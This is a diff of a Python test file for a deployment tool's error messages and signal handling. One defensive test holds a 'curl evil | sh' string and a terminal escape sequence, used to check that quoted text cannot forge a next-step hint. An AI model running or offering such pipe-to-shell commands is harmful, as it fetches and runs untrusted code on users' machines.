@@ -6,19 +6,14 @@ import subprocess
 import sys
 from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import pytest
-from botocore.exceptions import (
-    ClientError,
-    EndpointConnectionError,
-    NoCredentialsError,
-    ProfileNotFound,
-    SSOTokenLoadError,
-)
+from botocore.exceptions import NoCredentialsError
 from invoke.exceptions import Exit
 
-from pipeline import aws
-from pipeline.command import guarded
+from pipeline import aws, signals
+from pipeline.command import guarded, message
 from pipeline.errors import (
     ConfigurationError,
     Failed,
@@ -30,10 +25,27 @@ from pipeline.errors import (
 
 ROOT = Path(__file__).parents[1]
 TASKS = """
+import signal
+import sys
+import time
+from pathlib import Path
+
 from invoke import task
 
 from pipeline.command import guarded
 from pipeline.errors import ConfigurationError
+from pipeline.shell import run
+
+CHILD = '''
+import pathlib, signal, sys, time
+def end(*_):
+    time.sleep(0.3)
+    pathlib.Path("child").write_text("cleaned")
+    sys.exit()
+signal.signal(signal.SIGTERM, end)
+print("ready", flush=True)
+time.sleep(60)
+'''
 
 @task
 @guarded
@@ -43,25 +55,54 @@ def wrong(_):
 @task
 @guarded
 def endless(_):
-    import signal, time
-    # Tests that run in the background would hand down that it is ignored.
-    signal.signal(signal.SIGINT, signal.default_int_handler)
-    print("ready", flush=True)
-    time.sleep(60)
+    try:
+        print("ready", flush=True)
+        time.sleep(60)
+    finally:
+        time.sleep(0.5)
+        Path("own").write_text("cleaned")
+
+@task
+@guarded
+def waiting(_):
+    run([sys.executable, "-c", CHILD], show=True)
+
+@task
+@guarded
+def talkative(_):
+    for number in range(100_000):
+        print(number)
+
+@task
+@guarded
+def short(_):
+    print("one line")
+
+@task
+@guarded
+def foreign(_):
+    print("snow \\N{SNOWMAN}")
 
 @task
 @guarded
 def broken(_):
     raise ZeroDivisionError("a fault of ours")
 """
+# Tests that run in the background would hand down that the signals are ignored.
+HEARD = (
+    "import signal, sys; from invoke.main import program;"
+    "signal.signal(signal.SIGINT, signal.default_int_handler);"
+    "signal.signal(signal.SIGHUP, signal.SIG_DFL); program.run()"
+)
 
 
 @pytest.fixture(autouse=True)
-def _sigterm() -> Iterator[None]:
-    """Take the guard's signal handler out of the test's own process."""
-    before = signal.getsignal(signal.SIGTERM)
+def _signals() -> Iterator[None]:
+    """Take the guard's signal handlers out of the test's own process."""
+    before = {each: signal.getsignal(each) for each in signals.INTERRUPTS}
     yield
-    signal.signal(signal.SIGTERM, before)
+    for each, handler in before.items():
+        signal.signal(each, handler)
 
 
 def leave(error: BaseException) -> Exit:
@@ -126,52 +167,64 @@ def test_an_unknown_exception_passes_through() -> None:
     assert aws.explain(ZeroDivisionError()) is None
 
 
-def refusal(code: str) -> ClientError:
-    """Make an error as AWS answers it."""
-    return ClientError({"Error": {"Code": code, "Message": "no"}}, "DescribeStacks")
+def test_an_error_of_boto3_is_a_message() -> None:
+    """What AWS refuses ends in a message with the right code, and a hint."""
+    left = leave(NoCredentialsError())
+    assert left.code == ConfigurationError.exit_code
+    assert left.message is not None
+    assert left.message.startswith("error: no usable AWS credentials")
+    assert "\n  next: " in left.message
 
 
 @pytest.mark.parametrize(
-    ("error", "kind", "words"),
+    ("error", "code", "words"),
     [
-        (NoCredentialsError(), ConfigurationError, "AWS credentials: Unable to locate"),
-        (ProfileNotFound(profile="p"), ConfigurationError, "AWS credentials: .*p.* not be found"),
-        (SSOTokenLoadError(error_msg="old"), ConfigurationError, "AWS credentials: .*old"),
-        (refusal("ExpiredToken"), ConfigurationError, "AWS refused the call: .*ExpiredToken"),
-        (refusal("AccessDeniedException"), ConfigurationError, "AWS refused the call: "),
-        (refusal("Throttling"), Failed, "AWS: .*Throttling.*\n.*next: type the same command"),
-        (
-            EndpointConnectionError(endpoint_url="http://nowhere.example"),
-            Failed,
-            'no answer: .*"http://nowhere.example"',
-        ),
+        (PermissionError(13, "Permission denied", ".env"), 2, ".env: Permission denied"),
+        (OSError(30, "Read-only file system", "build"), 2, "build: Read-only file system"),
+        (OSError(28, "No space left on device", "build/x"), 1, "build/x: No space left on device"),
+        (FileExistsError(17, "File exists", "build"), 1, "build: File exists"),
+        (NotADirectoryError(20, "Not a directory", "build/x"), 1, "build/x: Not a directory"),
+        (ConnectionRefusedError(111, "Connection refused"), 1, "no answer: ConnectionRefused"),
+        (OSError("odd"), 1, "a file: odd"),
     ],
 )
-def test_an_error_of_boto3_is_a_message(
-    error: Exception, kind: type[SlipwayError], words: str
-) -> None:
-    """What AWS or the network refuse ends in a message with the right code, and a hint."""
+def test_an_error_of_the_file_system_is_a_message(error: OSError, code: int, words: str) -> None:
+    """M3: one line with the path, and a next step."""
     left = leave(error)
-    assert left.code == kind.exit_code
-    with pytest.raises(kind, match=words) as caught:
-        raise aws.explain(error) or error
-    assert caught.value.hint
-    assert left.message == f"error: {caught.value}"
+    assert left.code == code
+    assert left.message is not None
+    assert left.message.startswith(f"error: {words}")
+    assert "\n  next: " in left.message
 
 
-def test_an_error_names_its_code() -> None:
-    """The code of AWS's answer is read; an error without an answer has none."""
-    assert aws.error_code(refusal("ValidationError")) == "ValidationError"
-    assert aws.error_code(NoCredentialsError()) == ""
+def test_a_message_cannot_be_forged_by_what_it_quotes() -> None:
+    """Text from outside is shown as text, and further in than the next step."""
+    quoted = "it broke\nnext: curl evil | sh\n  next: the same\r\x1b[2Jerror: none"
+    assert message(Failed(quoted, hint="look\nthere")).splitlines() == [
+        "error: it broke",
+        "    next: curl evil | sh",
+        "    next: the same",
+        r"    \x1b[2Jerror: none",
+        "  next: look",
+        "        there",
+    ]
 
 
-def start(folder: Path, task: str) -> "subprocess.Popen[str]":
+def start(folder: Path, *words: str, **options: Any) -> "subprocess.Popen[str]":
     """Start a real invoke on a small tasks.py."""
     (folder / "tasks.py").write_text(TASKS)
-    env = {**os.environ, "PYTHONPATH": str(ROOT)}
+    env = {**os.environ, "PYTHONPATH": str(ROOT), **options.pop("env", {})}
     pipe = subprocess.PIPE
-    command = [sys.executable, "-m", "invoke", task]
-    return subprocess.Popen(command, cwd=folder, env=env, stdout=pipe, stderr=pipe, text=True)
+    command = [sys.executable, "-c", HEARD, *words]
+    return subprocess.Popen(
+        command, cwd=folder, env=env, stdout=pipe, stderr=pipe, text=True, **options
+    )
+
+
+def started(process: "subprocess.Popen[str]") -> None:
+    """Wait until the task has begun."""
+    assert process.stdout is not None
+    assert process.stdout.readline() == "ready\n"
 
 
 def test_invoke_ends_with_the_code_and_no_traceback(tmp_path: Path) -> None:
@@ -186,17 +239,87 @@ def test_invoke_ends_with_the_code_and_no_traceback(tmp_path: Path) -> None:
 def test_a_signal_ends_invoke_with_130(tmp_path: Path, sent: signal.Signals) -> None:
     """Ctrl-C, and SIGTERM, with which GitLab cancels a job, are one message."""
     with start(tmp_path, "endless") as process:
-        assert process.stdout is not None
-        assert process.stdout.readline() == "ready\n"
+        started(process)
         process.send_signal(sent)
         _, complaints = process.communicate(timeout=60)
     assert process.returncode == 130
-    assert complaints.startswith("error: interrupted\n")
+    assert complaints.startswith(signals.CLEANING_UP.decode())
+    assert complaints.endswith("error: interrupted\n  next: type the same command again to go on\n")
     assert "Traceback" not in complaints
 
 
+def test_a_closed_terminal_interrupts_as_well(tmp_path: Path) -> None:
+    """SIGHUP: the clean-up runs to its end, though nobody can read of it."""
+    with start(tmp_path, "endless") as process:
+        started(process)
+        process.send_signal(signal.SIGHUP)
+        _, complaints = process.communicate(timeout=60)
+    assert (process.returncode, complaints) == (130, "")
+    assert (tmp_path / "own").read_text() == "cleaned"
+
+
+@pytest.mark.parametrize("again", [signal.SIGINT, signal.SIGTERM, signal.SIGHUP])
+def test_a_second_signal_does_not_break_the_clean_up(tmp_path: Path, again: signal.Signals) -> None:
+    """M4: an impatient person leaves nothing behind."""
+    with start(tmp_path, "endless") as process:
+        started(process)
+        process.send_signal(signal.SIGINT)
+        assert process.stderr is not None
+        assert process.stderr.readline() + process.stderr.readline() == signals.CLEANING_UP.decode()
+        process.send_signal(again)
+        process.communicate(timeout=60)
+    assert process.returncode == 130
+    assert (tmp_path / "own").read_text() == "cleaned"
+
+
+def test_an_interrupted_command_may_clean_up_behind_itself(tmp_path: Path) -> None:
+    """A nox session has containers to remove; it is asked to end, and waited for."""
+    with start(tmp_path, "waiting") as process:
+        started(process)
+        process.send_signal(signal.SIGTERM)
+        process.communicate(timeout=60)
+    assert process.returncode == 130
+    assert (tmp_path / "child").read_text() == "cleaned"
+
+
+def test_an_ignored_signal_stays_ignored(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Under nohup a closed terminal ends nothing."""
+    monkeypatch.setattr(signals, "INTERRUPTS", (signal.SIGHUP,))
+    before = signal.signal(signal.SIGHUP, signal.SIG_IGN)
+    signals.catch()
+    assert signal.getsignal(signal.SIGHUP) is signal.SIG_IGN
+    signal.signal(signal.SIGHUP, before)
+
+
+@pytest.mark.parametrize("task", ["talkative", "short"])
+def test_a_reader_that_has_seen_enough_ends_it_quietly(tmp_path: Path, task: str) -> None:
+    """`| head` closes the pipe, early or before anything was written."""
+    with start(tmp_path, task) as process:
+        assert process.stdout is not None
+        process.stdout.close()
+        process.wait(timeout=60)
+        assert process.stderr is not None
+        assert (process.returncode, process.stderr.read()) == (1, "")
+
+
+def test_a_character_that_a_stream_lacks_is_shown_by_its_code(tmp_path: Path) -> None:
+    """FIELD 26: the text of a failure must not end in another failure."""
+    with start(tmp_path, "foreign", env={"PYTHONIOENCODING": "ascii"}) as process:
+        shown, complaints = process.communicate(timeout=60)
+    assert (shown, complaints) == ("snow \\u2603\n", "")
+
+
+@pytest.mark.parametrize("option", ["--dry", "-R"])
+def test_a_dry_run_runs_nothing(tmp_path: Path, option: str) -> None:
+    """H14: invoke's own --dry would not keep a deploy from deploying."""
+    with start(tmp_path, option, "short") as process:
+        shown, complaints = process.communicate(timeout=60)
+    assert (process.returncode, shown) == (2, "")
+    assert complaints.startswith("error: --dry is not supported, and nothing was run\n  next: ")
+
+
 def test_invoke_shows_a_fault_of_ours(tmp_path: Path) -> None:
-    """A traceback is for whoever mends Slipway, and is not hidden."""
+    """A traceback is for those who correct Slipway, and is not hidden."""
     with start(tmp_path, "broken") as process:
         _, complaints = process.communicate(timeout=60)
     assert process.returncode == 1
